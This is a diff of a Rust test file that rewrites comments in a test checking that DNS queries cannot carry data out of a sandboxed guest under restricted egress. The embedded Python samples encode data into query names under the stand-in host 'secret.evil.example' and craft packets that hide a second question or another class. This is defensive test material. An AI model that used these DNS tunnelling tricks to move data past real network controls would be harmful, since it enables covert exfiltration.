@@ -284,8 +284,8 @@ def ask(server, name, kind=1, over="udp"):
 fn dns_carries_no_data_out_under_restricted_egress() {
     networked(&[], |test_home, _| {
         let say = |id: &str, program: &str| python(test_home, id, &format!("{ASK}\n{program}"));
-        // A (1), NS, CNAME, NULL, TXT and AAAA, to the guest's name server and to others, which
-        // would answer.
+        // The guest sends questions of the types A (1), NS, CNAME, NULL, TXT and AAAA. They go to
+        // the guest's name server, and to others, which would answer.
         let program = format!(
             r#"
 name = "aGVsbG8.secret.evil.example"
@@ -307,8 +307,8 @@ print(*own, *others, ask("169.254.0.22", "good.example"))
             json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
         let names = create(test_home, rules);
         assert_eq!(say(&names, &program), "refused nobody answer");
-        // Data hidden in an allowed question: as a second question, as another class, or after the
-        // part that a server would truncate.
+        // The guest hides data in an allowed question: as a second question, as another class, or
+        // after the part that a server would truncate.
         let hidden = r#"
 def raw(text):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
@@ -321,8 +321,8 @@ good, evil = question("good.example", 16), question("secret.evil.example", 16)
 two = good[:4] + struct.pack("!4H", 2, 0, 0, 0) + good[12:] + evil[12:]
 print(raw(two), raw(evil[:2] + b"\x29" + evil[3:]), raw(evil[:2] + b"\x81" + evil[3:]), raw(b"\0" * 11), raw(evil[:20]))
 "#;
-        // NOTIMP (4) for several questions and for updates. Responses and truncated messages are
-        // ignored.
+        // The name server answers NOTIMP (4) to several questions and to updates. It ignores
+        // responses and truncated messages.
         assert_eq!(say(&names, hidden), "4 4 silence silence silence");
     });
 }
